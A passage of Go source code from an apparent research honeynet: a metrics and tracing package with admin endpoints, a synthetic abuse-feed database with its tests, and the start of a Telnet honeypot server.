	if code, body := get("/healthz"); code != 200 || body != "ok\n" {
		t.Errorf("/healthz = %d %q", code, body)
	}
	unhealthy = true
	if code, _ := get("/healthz"); code != 503 {
		t.Errorf("unhealthy /healthz code = %d, want 503", code)
	}
	if code, _ := get("/debug/vars"); code != 200 {
		t.Errorf("/debug/vars code = %d", code)
	}
}

var errDraining = errorString("draining")

type errorString string

func (e errorString) Error() string { return string(e) }
