package obs

import (
	"expvar"
	"net/http"
	"sync"
)

// ExpvarFunc returns the registry as an expvar.Var (a JSON object of
// the flattened Snapshot), so existing expvar tooling can consume the
// honeynet's metrics.
func (r *Registry) ExpvarFunc() expvar.Func {
	return func() any { return r.Snapshot() }
}

var expvarMu sync.Mutex

// PublishExpvar publishes the registry under name in the process-global
// expvar namespace. expvar panics on duplicate names, so a name that is
// already taken (e.g. by an earlier registry in the same test process)
// is left alone and PublishExpvar reports false.
func (r *Registry) PublishExpvar(name string) bool {
	if r == nil {
		return false
	}
	expvarMu.Lock()
	defer expvarMu.Unlock()
	if expvar.Get(name) != nil {
		return false
	}
	expvar.Publish(name, r.ExpvarFunc())
	return true
}

// Route pairs a mux pattern with its handler, for callers mounting
// extra admin endpoints (e.g. the live pipeline's /live snapshot).
type Route struct {
	Pattern string
	Handler http.Handler
}

// AdminMux builds the admin-endpoint mux the daemon serves on -admin:
//
//	/metrics     Prometheus text exposition of reg
//	/healthz     200 "ok", or 503 with the error text when healthy
//	             returns one (e.g. "draining")
//	/debug/vars  the process expvar namespace (see PublishExpvar)
//
// net/http/pprof handlers are mounted under /debug/pprof/ unless the
// binary is built with -tags nopprof (hardened builds can ship an admin
// port without profiling). Additional routes mount verbatim.
func AdminMux(reg *Registry, healthy func() error, extra ...Route) *http.ServeMux {
	mux := http.NewServeMux()
	for _, rt := range extra {
		mux.Handle(rt.Pattern, rt.Handler)
	}
	mux.HandleFunc("/metrics", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		_ = reg.WritePrometheus(w)
	})
	mux.HandleFunc("/healthz", func(w http.ResponseWriter, _ *http.Request) {
		if healthy != nil {
			if err := healthy(); err != nil {
				http.Error(w, err.Error(), http.StatusServiceUnavailable)
				return
			}
		}
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		_, _ = w.Write([]byte("ok\n"))
	})
	mux.Handle("/debug/vars", expvar.Handler())
	attachPprof(mux)
	return mux
}
