package obs

import (
	"fmt"
	"io"
	"sort"
	"sync"
	"time"
)

// Tracer aggregates named phase timings — a deliberately tiny span
// recorder for answering "where does the analysis wall-clock go".
// Spans with the same name accumulate (count, total, max). All methods
// are safe for concurrent use, and every method is nil-receiver safe so
// instrumented code pays one nil check when tracing is off.
//
// Tracing never influences computation: spans only read the clock, so
// traced runs produce byte-identical analysis output.
type Tracer struct {
	// Now supplies time (injectable for tests); nil means time.Now.
	Now func() time.Time

	mu     sync.Mutex
	order  []string // first-seen phase order, for stable display
	phases map[string]*phaseAgg
}

type phaseAgg struct {
	count int64
	total time.Duration
	max   time.Duration
	// tags accumulate named integer annotations (work counters a phase
	// reports alongside its wall time, e.g. DP cells short-circuited).
	tags map[string]int64
}

// NewTracer returns an empty tracer.
func NewTracer() *Tracer {
	return &Tracer{phases: map[string]*phaseAgg{}}
}

func (t *Tracer) now() time.Time {
	if t.Now != nil {
		return t.Now()
	}
	return time.Now()
}

// Span starts timing one phase occurrence; call End on the returned
// span. A nil tracer returns a nil span, and a nil span's End no-ops.
func (t *Tracer) Span(name string) *Span {
	if t == nil {
		return nil
	}
	return &Span{t: t, name: name, start: t.now()}
}

// Record adds one completed phase occurrence directly (for callers that
// measured the duration themselves).
func (t *Tracer) Record(name string, d time.Duration) {
	if t == nil {
		return
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	p, ok := t.phases[name]
	if !ok {
		p = &phaseAgg{}
		t.phases[name] = p
		t.order = append(t.order, name)
	}
	p.count++
	p.total += d
	if d > p.max {
		p.max = d
	}
}

// Tag accumulates a named integer annotation on a phase — work
// counters that explain the phase's wall time (pairs computed, cells
// skipped, cache hits). Tags are additive across occurrences and only
// affect the -timings breakdown, never results. Nil-safe.
func (t *Tracer) Tag(phase, name string, v int64) {
	if t == nil {
		return
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	p, ok := t.phases[phase]
	if !ok {
		p = &phaseAgg{}
		t.phases[phase] = p
		t.order = append(t.order, phase)
	}
	if p.tags == nil {
		p.tags = map[string]int64{}
	}
	p.tags[name] += v
}

// Span is one in-flight phase timing.
type Span struct {
	t     *Tracer
	name  string
	start time.Time
}

// Tag annotates the span's phase with an additive work counter; see
// Tracer.Tag. Nil-safe.
func (s *Span) Tag(name string, v int64) {
	if s == nil {
		return
	}
	s.t.Tag(s.name, name, v)
}

// End seals the span and returns its duration. Nil-safe; idempotence is
// the caller's concern (End once).
func (s *Span) End() time.Duration {
	if s == nil {
		return 0
	}
	d := s.t.now().Sub(s.start)
	s.t.Record(s.name, d)
	return d
}

// PhaseStat is one aggregated phase.
type PhaseStat struct {
	Name  string
	Count int64
	Total time.Duration
	Max   time.Duration
	// Tags are the accumulated work-counter annotations (nil when the
	// phase recorded none).
	Tags map[string]int64
}

// Phases returns the aggregated stats in first-seen order.
func (t *Tracer) Phases() []PhaseStat {
	if t == nil {
		return nil
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	out := make([]PhaseStat, 0, len(t.order))
	for _, name := range t.order {
		p := t.phases[name]
		st := PhaseStat{Name: name, Count: p.count, Total: p.total, Max: p.max}
		if len(p.tags) > 0 {
			st.Tags = make(map[string]int64, len(p.tags))
			for k, v := range p.tags {
				st.Tags[k] = v
			}
		}
		out = append(out, st)
	}
	return out
}

// WriteTable renders the per-phase breakdown: name, calls, total, mean,
// max, and share of the summed phase time (top-level phases overlap
// nested ones, so shares are of the sum, not of wall-clock).
func (t *Tracer) WriteTable(w io.Writer) {
	phases := t.Phases()
	if len(phases) == 0 {
		fmt.Fprintln(w, "timings: no phases recorded")
		return
	}
	var grand time.Duration
	width := len("phase")
	for _, p := range phases {
		grand += p.Total
		if len(p.Name) > width {
			width = len(p.Name)
		}
	}
	sorted := append([]PhaseStat(nil), phases...)
	sort.SliceStable(sorted, func(i, j int) bool { return sorted[i].Total > sorted[j].Total })
	fmt.Fprintf(w, "%-*s  %8s  %12s  %12s  %12s  %6s\n", width, "phase", "calls", "total", "mean", "max", "share")
	for _, p := range sorted {
		mean := time.Duration(0)
		if p.Count > 0 {
			mean = p.Total / time.Duration(p.Count)
		}
		share := 0.0
		if grand > 0 {
			share = float64(p.Total) / float64(grand)
		}
		fmt.Fprintf(w, "%-*s  %8d  %12s  %12s  %12s  %5.1f%%\n",
			width, p.Name, p.Count,
			p.Total.Round(time.Microsecond), mean.Round(time.Microsecond),
			p.Max.Round(time.Microsecond), 100*share)
	}
	// Work-counter annotations, one line per tagged phase (sorted tag
	// names for stable output).
	for _, p := range sorted {
		if len(p.Tags) == 0 {
			continue
		}
		names := make([]string, 0, len(p.Tags))
		for n := range p.Tags {
			names = append(names, n)
		}
		sort.Strings(names)
		fmt.Fprintf(w, "%-*s ", width, p.Name)
		for _, n := range names {
			fmt.Fprintf(w, " %s=%d", n, p.Tags[n])
		}
		fmt.Fprintln(w)
	}
}
