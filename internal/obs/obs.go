// Package obs is the honeynet's unified observability layer: a
// dependency-free metrics registry (counters, gauges, histograms,
// labeled families) with Prometheus text-format exposition and an
// expvar bridge, plus a lightweight phase-timing tracer for the
// analysis pipeline.
//
// Design constraints, in order:
//
//  1. Zero third-party dependencies — only the standard library.
//  2. Instruments must be safe to leave in hot paths: counters are one
//     atomic add, histograms one atomic add per bucket boundary, and
//     every instrument method is nil-receiver safe so unobserved
//     components (a Node nobody registered) pay a single nil check.
//  3. Metrics never feed back into results: the registry only reads
//     state, so analysis output is byte-identical with observability
//     on or off.
//
// The paper's 33-month deployment (§2) was only operable because its
// counters were scrapeable over time — drop-offs like the mdrfckr
// volume collapse (§10) and the curl_maxred proxy abuse (§5) were
// found by watching operational metrics, not session records.
package obs

import (
	"fmt"
	"io"
	"math"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
)

// Label is one name=value metric dimension.
type Label struct {
	Name, Value string
}

// L is shorthand for constructing a Label.
func L(name, value string) Label { return Label{Name: name, Value: value} }

// metricType is the Prometheus exposition type of a family.
type metricType string

const (
	typeCounter   metricType = "counter"
	typeGauge     metricType = "gauge"
	typeHistogram metricType = "histogram"
)

// Counter is a monotonically increasing count. The zero value is ready
// to use; a nil *Counter no-ops.
type Counter struct {
	v atomic.Int64
}

// Inc adds one.
func (c *Counter) Inc() { c.Add(1) }

// Add adds n (negative deltas are ignored: counters only go up).
func (c *Counter) Add(n int64) {
	if c == nil || n < 0 {
		return
	}
	c.v.Add(n)
}

// Value returns the current count. A nil counter reads 0.
func (c *Counter) Value() int64 {
	if c == nil {
		return 0
	}
	return c.v.Load()
}

// Gauge is a value that can go up and down. The zero value is ready; a
// nil *Gauge no-ops.
type Gauge struct {
	bits atomic.Uint64
}

// Set stores v.
func (g *Gauge) Set(v float64) {
	if g == nil {
		return
	}
	g.bits.Store(math.Float64bits(v))
}

// Add increments the gauge by d.
func (g *Gauge) Add(d float64) {
	if g == nil {
		return
	}
	for {
		old := g.bits.Load()
		nv := math.Float64bits(math.Float64frombits(old) + d)
		if g.bits.CompareAndSwap(old, nv) {
			return
		}
	}
}

// Value returns the current value. A nil gauge reads 0.
func (g *Gauge) Value() float64 {
	if g == nil {
		return 0
	}
	return math.Float64frombits(g.bits.Load())
}

// Histogram counts observations into a fixed bucket layout (cumulative
// Prometheus semantics on exposition). A nil *Histogram no-ops.
type Histogram struct {
	// uppers are the inclusive upper bounds of the finite buckets,
	// ascending; an implicit +Inf bucket follows.
	uppers []float64
	counts []atomic.Int64 // len(uppers)+1
	sum    Gauge          // atomic float accumulator
	count  atomic.Int64
}

// newHistogram builds a histogram over the given ascending bounds.
func newHistogram(uppers []float64) *Histogram {
	u := append([]float64(nil), uppers...)
	sort.Float64s(u)
	return &Histogram{uppers: u, counts: make([]atomic.Int64, len(u)+1)}
}

// Observe records one sample.
func (h *Histogram) Observe(v float64) {
	if h == nil {
		return
	}
	// Linear scan: layouts are small (≤ ~20 buckets) and the branch
	// predictor does well on skewed observation distributions.
	i := 0
	for i < len(h.uppers) && v > h.uppers[i] {
		i++
	}
	h.counts[i].Add(1)
	h.sum.Add(v)
	h.count.Add(1)
}

// Count returns the total number of observations.
func (h *Histogram) Count() int64 {
	if h == nil {
		return 0
	}
	return h.count.Load()
}

// Sum returns the sum of all observed values.
func (h *Histogram) Sum() float64 {
	if h == nil {
		return 0
	}
	return h.sum.Value()
}

// ExpBuckets returns n exponential bucket bounds: start, start*factor,
// ... — the standard layout for latencies and sizes.
func ExpBuckets(start, factor float64, n int) []float64 {
	out := make([]float64, n)
	v := start
	for i := range out {
		out[i] = v
		v *= factor
	}
	return out
}

// DurationBuckets is the fixed layout used for session and phase
// durations: 1ms .. ~16s plus the honeypot's 3-minute session cap.
var DurationBuckets = append(ExpBuckets(0.001, 4, 8), 180)

// sample is one labeled series inside a family.
type sample struct {
	labels  []Label
	key     string // canonical label signature, sort key
	counter *Counter
	gauge   *Gauge
	hist    *Histogram
	fn      func() float64 // func-backed value (counter or gauge)
}

func (s *sample) value() float64 {
	switch {
	case s.fn != nil:
		return s.fn()
	case s.counter != nil:
		return float64(s.counter.Value())
	default:
		return s.gauge.Value()
	}
}

// family is all series sharing one metric name.
type family struct {
	name    string
	help    string
	typ     metricType
	samples map[string]*sample
}

// Registry holds metric families and renders them for scraping. The
// zero value is not usable; construct with NewRegistry. A nil *Registry
// is safe to register against: every constructor returns a usable
// (orphan) instrument, so components can instrument unconditionally.
type Registry struct {
	mu       sync.Mutex
	families map[string]*family
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{families: map[string]*family{}}
}

// labelKey canonicalizes a label set for dedup and stable exposition
// ordering.
func labelKey(labels []Label) string {
	if len(labels) == 0 {
		return ""
	}
	ls := append([]Label(nil), labels...)
	sort.Slice(ls, func(i, j int) bool { return ls[i].Name < ls[j].Name })
	var b strings.Builder
	for i, l := range ls {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(l.Name)
		b.WriteByte('=')
		b.WriteString(l.Value)
	}
	return b.String()
}

// register installs a sample, panicking on a duplicate (name, labels)
// pair — a registration bug worth failing loudly on.
func (r *Registry) register(name, help string, typ metricType, s *sample) {
	r.mu.Lock()
	defer r.mu.Unlock()
	f, ok := r.families[name]
	if !ok {
		f = &family{name: name, help: help, typ: typ, samples: map[string]*sample{}}
		r.families[name] = f
	}
	if f.typ != typ {
		panic(fmt.Sprintf("obs: metric %q re-registered as %s (was %s)", name, typ, f.typ))
	}
	if _, dup := f.samples[s.key]; dup {
		panic(fmt.Sprintf("obs: duplicate registration of %s{%s}", name, s.key))
	}
	f.samples[s.key] = s
}

// Counter registers (or returns an orphan, if r is nil) an owned
// counter series.
func (r *Registry) Counter(name, help string, labels ...Label) *Counter {
	c := &Counter{}
	if r != nil {
		r.register(name, help, typeCounter, &sample{labels: labels, key: labelKey(labels), counter: c})
	}
	return c
}

// CounterFunc registers a counter series whose value is read from fn at
// scrape time — the bridge for components that already count with their
// own atomics. No-op when r is nil.
func (r *Registry) CounterFunc(name, help string, fn func() int64, labels ...Label) {
	if r == nil {
		return
	}
	r.register(name, help, typeCounter, &sample{
		labels: labels, key: labelKey(labels), fn: func() float64 { return float64(fn()) },
	})
}

// Gauge registers (or returns an orphan) an owned gauge series.
func (r *Registry) Gauge(name, help string, labels ...Label) *Gauge {
	g := &Gauge{}
	if r != nil {
		r.register(name, help, typeGauge, &sample{labels: labels, key: labelKey(labels), gauge: g})
	}
	return g
}

// GaugeFunc registers a gauge series read from fn at scrape time.
func (r *Registry) GaugeFunc(name, help string, fn func() float64, labels ...Label) {
	if r == nil {
		return
	}
	r.register(name, help, typeGauge, &sample{labels: labels, key: labelKey(labels), fn: fn})
}

// Histogram registers (or returns an orphan) a histogram with the given
// fixed bucket upper bounds.
func (r *Registry) Histogram(name, help string, uppers []float64, labels ...Label) *Histogram {
	h := newHistogram(uppers)
	if r != nil {
		r.register(name, help, typeHistogram, &sample{labels: labels, key: labelKey(labels), hist: h})
	}
	return h
}

// formatValue renders a float the way Prometheus clients do.
func formatValue(v float64) string {
	switch {
	case math.IsInf(v, 1):
		return "+Inf"
	case math.IsInf(v, -1):
		return "-Inf"
	}
	return strconv.FormatFloat(v, 'g', -1, 64)
}

// escapeLabel escapes a label value per the exposition format.
func escapeLabel(v string) string {
	v = strings.ReplaceAll(v, `\`, `\\`)
	v = strings.ReplaceAll(v, "\n", `\n`)
	return strings.ReplaceAll(v, `"`, `\"`)
}

// renderLabels renders {a="b",c="d"} including the braces; extra label
// pairs (for histogram le) are appended after the sample's own.
func renderLabels(labels []Label, extra ...Label) string {
	all := make([]Label, 0, len(labels)+len(extra))
	all = append(all, labels...)
	sort.Slice(all, func(i, j int) bool { return all[i].Name < all[j].Name })
	all = append(all, extra...)
	if len(all) == 0 {
		return ""
	}
	var b strings.Builder
	b.WriteByte('{')
	for i, l := range all {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(l.Name)
		b.WriteString(`="`)
		b.WriteString(escapeLabel(l.Value))
		b.WriteByte('"')
	}
	b.WriteByte('}')
	return b.String()
}

// WritePrometheus renders the registry in the Prometheus text
// exposition format (version 0.0.4). Families are sorted by name and
// series by label signature, so output is deterministic.
func (r *Registry) WritePrometheus(w io.Writer) error {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	names := make([]string, 0, len(r.families))
	for n := range r.families {
		names = append(names, n)
	}
	sort.Strings(names)
	// Snapshot family pointers under the lock; sample reads are atomic.
	fams := make([]*family, len(names))
	for i, n := range names {
		fams[i] = r.families[n]
	}
	r.mu.Unlock()

	var b strings.Builder
	for _, f := range fams {
		fmt.Fprintf(&b, "# HELP %s %s\n# TYPE %s %s\n", f.name, f.help, f.name, f.typ)
		keys := make([]string, 0, len(f.samples))
		for k := range f.samples {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			s := f.samples[k]
			if s.hist != nil {
				writeHistogram(&b, f.name, s)
				continue
			}
			fmt.Fprintf(&b, "%s%s %s\n", f.name, renderLabels(s.labels), formatValue(s.value()))
		}
	}
	_, err := io.WriteString(w, b.String())
	return err
}

// writeHistogram renders one histogram series with cumulative buckets.
func writeHistogram(b *strings.Builder, name string, s *sample) {
	h := s.hist
	var cum int64
	for i, upper := range h.uppers {
		cum += h.counts[i].Load()
		fmt.Fprintf(b, "%s_bucket%s %d\n", name, renderLabels(s.labels, L("le", formatValue(upper))), cum)
	}
	cum += h.counts[len(h.uppers)].Load()
	fmt.Fprintf(b, "%s_bucket%s %d\n", name, renderLabels(s.labels, L("le", "+Inf")), cum)
	fmt.Fprintf(b, "%s_sum%s %s\n", name, renderLabels(s.labels), formatValue(h.Sum()))
	fmt.Fprintf(b, "%s_count%s %d\n", name, renderLabels(s.labels), h.Count())
}

// Snapshot flattens the registry into "name{labels}" -> value pairs —
// the form recorded into the session-log trailer on drain and served
// over the expvar bridge. Histograms contribute _sum and _count plus
// one cumulative entry per bucket.
func (r *Registry) Snapshot() map[string]float64 {
	out := map[string]float64{}
	if r == nil {
		return out
	}
	r.mu.Lock()
	fams := make([]*family, 0, len(r.families))
	for _, f := range r.families {
		fams = append(fams, f)
	}
	r.mu.Unlock()
	for _, f := range fams {
		for _, s := range f.samples {
			if s.hist != nil {
				h := s.hist
				var cum int64
				for i, upper := range h.uppers {
					cum += h.counts[i].Load()
					out[f.name+"_bucket"+renderLabels(s.labels, L("le", formatValue(upper)))] = float64(cum)
				}
				cum += h.counts[len(h.uppers)].Load()
				out[f.name+"_bucket"+renderLabels(s.labels, L("le", "+Inf"))] = float64(cum)
				out[f.name+"_sum"+renderLabels(s.labels)] = h.Sum()
				out[f.name+"_count"+renderLabels(s.labels)] = float64(h.Count())
				continue
			}
			out[f.name+renderLabels(s.labels)] = s.value()
		}
	}
	return out
}
