//go:build nopprof

package obs

import "net/http"

// attachPprof is a no-op in nopprof builds: the admin endpoint serves
// metrics and health only, with no profiling surface.
func attachPprof(*http.ServeMux) {}
