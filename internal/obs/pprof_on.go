//go:build !nopprof

package obs

import (
	"net/http"
	"net/http/pprof"
)

// attachPprof mounts the net/http/pprof handlers on the admin mux.
func attachPprof(mux *http.ServeMux) {
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
}
