// Package abusedb is the synthetic stand-in for the abuse datasets of
// section 3.4 (abuse.ch, Team Cymru, VirusTotal, ArmstrongTechs) and the
// labeled IP lists of section 9 (Killnet proxy list, C2 feeds, the
// Shadowserver compromised-SSH report).
//
// Real feeds label only a sliver of what a honeynet collects — the paper
// resolves fewer than 700 of 16,257 hashes (~5%) — so the synthetic feed
// reproduces exactly that sparsity: a deterministic fraction of hashes
// receives a family label, the rest stay unknown.
package abusedb

import (
	"crypto/sha256"
	"encoding/binary"
	"strings"
	"sync"
)

// Family labels used by the abuse datasets in the paper.
const (
	LabelMalicious = "Malicious"
	LabelMirai     = "Mirai"
	LabelDofloo    = "Dofloo"
	LabelGafgyt    = "Gafgyt"
	LabelCoinMiner = "CoinMiner"
	LabelXorDDoS   = "XorDDos"
)

// Families lists all family labels.
func Families() []string {
	return []string{LabelMalicious, LabelMirai, LabelDofloo, LabelGafgyt, LabelCoinMiner, LabelXorDDoS}
}

// DB maps hashes and IPs to threat-intelligence labels.
type DB struct {
	mu sync.RWMutex
	// explicit labels registered by feeds (e.g. the simulator registers
	// the family of the payloads it generates for a labeled fraction).
	hashLabels map[string]string
	ipReported map[string]bool
	killnetIPs map[string]bool
	c2IPs      map[string]bool
	sshKeyHost map[string]int // public-key hash -> compromised host count

	// LabelFraction is the share of *queried* hashes that resolve when
	// no explicit label exists; matches the paper's ~5% coverage.
	LabelFraction float64
}

// New returns an empty DB with the paper's label coverage.
func New() *DB {
	return &DB{
		hashLabels:    map[string]string{},
		ipReported:    map[string]bool{},
		killnetIPs:    map[string]bool{},
		c2IPs:         map[string]bool{},
		sshKeyHost:    map[string]int{},
		LabelFraction: 0.05,
	}
}

// AddHash registers an explicit hash label (a feed entry).
func (db *DB) AddHash(hash, label string) {
	db.mu.Lock()
	defer db.mu.Unlock()
	db.hashLabels[hash] = label
}

// LookupHash resolves a hash to a family label. Besides explicit
// entries, a deterministic LabelFraction of arbitrary hashes resolves to
// a family inferred from the hash bits — emulating the sparse,
// best-effort coverage of public abuse databases. The boolean reports
// whether the hash is known.
func (db *DB) LookupHash(hash string) (string, bool) {
	db.mu.RLock()
	if l, ok := db.hashLabels[hash]; ok {
		db.mu.RUnlock()
		return l, true
	}
	frac := db.LabelFraction
	db.mu.RUnlock()

	h := stableHash(hash)
	if float64(h%10000)/10000 >= frac {
		return "", false
	}
	fams := Families()
	return fams[int(h/7)%len(fams)], true
}

// stableHash derives a deterministic 63-bit value from a string.
func stableHash(s string) uint64 {
	sum := sha256.Sum256([]byte(s))
	return binary.BigEndian.Uint64(sum[:8]) >> 1
}

// ReportIP marks an IP as reported by an abuse feed.
func (db *DB) ReportIP(ip string) {
	db.mu.Lock()
	defer db.mu.Unlock()
	db.ipReported[ip] = true
}

// IPReported reports whether an IP appears in any feed.
func (db *DB) IPReported(ip string) bool {
	db.mu.RLock()
	defer db.mu.RUnlock()
	return db.ipReported[ip]
}

// AddKillnetIP adds an IP to the Killnet proxy blocklist.
func (db *DB) AddKillnetIP(ip string) {
	db.mu.Lock()
	defer db.mu.Unlock()
	db.killnetIPs[ip] = true
}

// InKillnetList reports membership in the Killnet proxy list.
func (db *DB) InKillnetList(ip string) bool {
	db.mu.RLock()
	defer db.mu.RUnlock()
	return db.killnetIPs[ip]
}

// KillnetOverlap counts how many of ips appear in the Killnet list.
func (db *DB) KillnetOverlap(ips []string) int {
	db.mu.RLock()
	defer db.mu.RUnlock()
	n := 0
	for _, ip := range ips {
		if db.killnetIPs[ip] {
			n++
		}
	}
	return n
}

// AddC2IP adds an IP to the C2 daily feed.
func (db *DB) AddC2IP(ip string) {
	db.mu.Lock()
	defer db.mu.Unlock()
	db.c2IPs[ip] = true
}

// InC2List reports membership in the C2 feed.
func (db *DB) InC2List(ip string) bool {
	db.mu.RLock()
	defer db.mu.RUnlock()
	return db.c2IPs[ip]
}

// RecordCompromisedKey sets the Shadowserver-style compromised-host
// count for a public-key hash.
func (db *DB) RecordCompromisedKey(keyHash string, hosts int) {
	db.mu.Lock()
	defer db.mu.Unlock()
	db.sshKeyHost[keyHash] = hosts
}

// CompromisedHosts returns the number of hosts carrying the key.
func (db *DB) CompromisedHosts(keyHash string) int {
	db.mu.RLock()
	defer db.mu.RUnlock()
	return db.sshKeyHost[keyHash]
}

// MostPrevalentKey returns the key hash with the highest compromised-
// host count.
func (db *DB) MostPrevalentKey() (string, int) {
	db.mu.RLock()
	defer db.mu.RUnlock()
	best, bestN := "", -1
	for k, n := range db.sshKeyHost {
		if n > bestN || (n == bestN && strings.Compare(k, best) < 0) {
			best, bestN = k, n
		}
	}
	return best, bestN
}
