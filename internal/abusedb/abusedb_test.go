package abusedb

import (
	"fmt"
	"testing"
)

func TestExplicitHashLabels(t *testing.T) {
	db := New()
	db.AddHash("abc", LabelMirai)
	if l, ok := db.LookupHash("abc"); !ok || l != LabelMirai {
		t.Errorf("LookupHash = %q, %v", l, ok)
	}
}

func TestProbabilisticCoverageNearFivePercent(t *testing.T) {
	db := New()
	labeled := 0
	const n = 20000
	for i := 0; i < n; i++ {
		if _, ok := db.LookupHash(fmt.Sprintf("hash-%d", i)); ok {
			labeled++
		}
	}
	frac := float64(labeled) / n
	// The paper resolves ~5% of hashes (700 of 16,257 is 4.3%).
	if frac < 0.035 || frac > 0.065 {
		t.Errorf("label coverage = %.3f, want ~0.05", frac)
	}
}

func TestLookupDeterministic(t *testing.T) {
	db := New()
	for i := 0; i < 100; i++ {
		h := fmt.Sprintf("h%d", i)
		l1, ok1 := db.LookupHash(h)
		l2, ok2 := db.LookupHash(h)
		if l1 != l2 || ok1 != ok2 {
			t.Fatalf("lookup of %q not deterministic", h)
		}
	}
}

func TestZeroFractionDisablesFallback(t *testing.T) {
	db := New()
	db.LabelFraction = 0
	for i := 0; i < 2000; i++ {
		if _, ok := db.LookupHash(fmt.Sprintf("x%d", i)); ok {
			t.Fatal("fallback labeling should be disabled")
		}
	}
	// Explicit labels still work.
	db.AddHash("y", LabelGafgyt)
	if _, ok := db.LookupHash("y"); !ok {
		t.Error("explicit label lost")
	}
}

func TestIPFeeds(t *testing.T) {
	db := New()
	if db.IPReported("1.2.3.4") {
		t.Error("fresh DB should report nothing")
	}
	db.ReportIP("1.2.3.4")
	if !db.IPReported("1.2.3.4") {
		t.Error("reported IP lost")
	}

	db.AddKillnetIP("5.6.7.8")
	db.AddC2IP("9.9.9.9")
	if !db.InKillnetList("5.6.7.8") || db.InKillnetList("9.9.9.9") {
		t.Error("Killnet membership wrong")
	}
	if !db.InC2List("9.9.9.9") || db.InC2List("5.6.7.8") {
		t.Error("C2 membership wrong")
	}
	if n := db.KillnetOverlap([]string{"5.6.7.8", "9.9.9.9", "5.6.7.8"}); n != 2 {
		t.Errorf("KillnetOverlap = %d, want 2 (per-occurrence)", n)
	}
}

func TestCompromisedKeyReport(t *testing.T) {
	db := New()
	db.RecordCompromisedKey("keyA", 13368)
	db.RecordCompromisedKey("keyB", 12)
	if n := db.CompromisedHosts("keyA"); n != 13368 {
		t.Errorf("hosts = %d", n)
	}
	k, n := db.MostPrevalentKey()
	if k != "keyA" || n != 13368 {
		t.Errorf("most prevalent = %q (%d)", k, n)
	}
	if db.CompromisedHosts("unknown") != 0 {
		t.Error("unknown key should report 0")
	}
}

func TestFamiliesComplete(t *testing.T) {
	fams := Families()
	if len(fams) != 6 {
		t.Errorf("families = %v", fams)
	}
	seen := map[string]bool{}
	for _, f := range fams {
		if seen[f] {
			t.Errorf("duplicate family %q", f)
		}
		seen[f] = true
	}
}

func TestConcurrentAccess(t *testing.T) {
	db := New()
	done := make(chan bool)
	for g := 0; g < 4; g++ {
		go func(g int) {
			for i := 0; i < 500; i++ {
				db.AddHash(fmt.Sprintf("h-%d-%d", g, i), LabelMirai)
				db.LookupHash(fmt.Sprintf("h-%d-%d", g, i))
				db.ReportIP(fmt.Sprintf("10.0.%d.%d", g, i%250))
				db.IPReported("10.0.0.1")
			}
			done <- true
		}(g)
	}
	for g := 0; g < 4; g++ {
		<-done
	}
}
