// Package telnetd implements the Telnet (RFC 854) side of the honeypot:
// option negotiation refusal, a login/password prompt, and a line-oriented
// shell hookup. The honeynet in the paper listens on both 22 and 23 with
// the same authentication rules.
package telnetd

import (
	"bufio"
	"errors"
	"io"
	"net"
	"sync/atomic"
	"time"

	"honeynet/internal/obs"
)

// Telnet protocol bytes.
const (
	iac  = 255
	dont = 254
	do   = 253
	wont = 252
	will = 251
	sb   = 250
	se   = 240
)

// Config parameterizes the Telnet server.
type Config struct {
	// Banner is printed before the login prompt.
	Banner string
	// Auth decides whether a login succeeds. Required.
	Auth func(user, password string) bool
	// OnAuthAttempt observes every attempt.
	OnAuthAttempt func(user, password string, ok bool)
	// Handler runs the post-login interaction over rw. Required.
	Handler func(user string, rw io.ReadWriter)
	// MaxAuthTries caps login attempts per connection (default 3, as
	// classic telnetd).
	MaxAuthTries int
	// ConnTimeout is the hard session deadline (the honeynet's 3 min).
	ConnTimeout time.Duration
	// Gate, if set, is consulted by Serve for each accepted connection
	// (e.g. a guard.Limiter). ok=false sheds the connection: Serve
	// closes it immediately. On ok, release (which may be nil) is
	// called when the connection ends.
	Gate func(nc net.Conn) (release func(), ok bool)
}

func (c *Config) maxTries() int {
	if c.MaxAuthTries > 0 {
		return c.MaxAuthTries
	}
	return 3
}

// Server accepts Telnet connections.
type Server struct {
	cfg Config

	// Accept-loop counters (Serve only; HandleConn callers count their
	// own accepts).
	accepted atomic.Int64
	shed     atomic.Int64
}

// AcceptStats returns how many connections Serve admitted and how many
// its Gate shed.
func (s *Server) AcceptStats() (accepted, shed int64) {
	return s.accepted.Load(), s.shed.Load()
}

// Register exposes the accept-loop counters on reg:
//
//	honeynet_telnetd_conns_total{result="accepted"|"shed"}
func (s *Server) Register(reg *obs.Registry) {
	reg.CounterFunc("honeynet_telnetd_conns_total",
		"Connections seen by the Telnet accept loop, by admission result.",
		s.accepted.Load, obs.L("result", "accepted"))
	reg.CounterFunc("honeynet_telnetd_conns_total",
		"Connections seen by the Telnet accept loop, by admission result.",
		s.shed.Load, obs.L("result", "shed"))
}

// New validates cfg and returns a Server.
func New(cfg Config) (*Server, error) {
	if cfg.Auth == nil || cfg.Handler == nil {
		return nil, errors.New("telnetd: Auth and Handler are required")
	}
	return &Server{cfg: cfg}, nil
}

// Serve accepts connections until ln closes.
func (s *Server) Serve(ln net.Listener) error {
	for {
		c, err := ln.Accept()
		if err != nil {
			return err
		}
		var release func()
		if s.cfg.Gate != nil {
			var ok bool
			if release, ok = s.cfg.Gate(c); !ok {
				s.shed.Add(1)
				_ = c.Close()
				continue
			}
		}
		s.accepted.Add(1)
		go func() {
			if release != nil {
				defer release()
			}
			_ = s.HandleConn(c)
		}()
	}
}

// conn wraps a net.Conn with telnet IAC stripping on read and IAC
// escaping on write.
type conn struct {
	nc net.Conn
	br *bufio.Reader
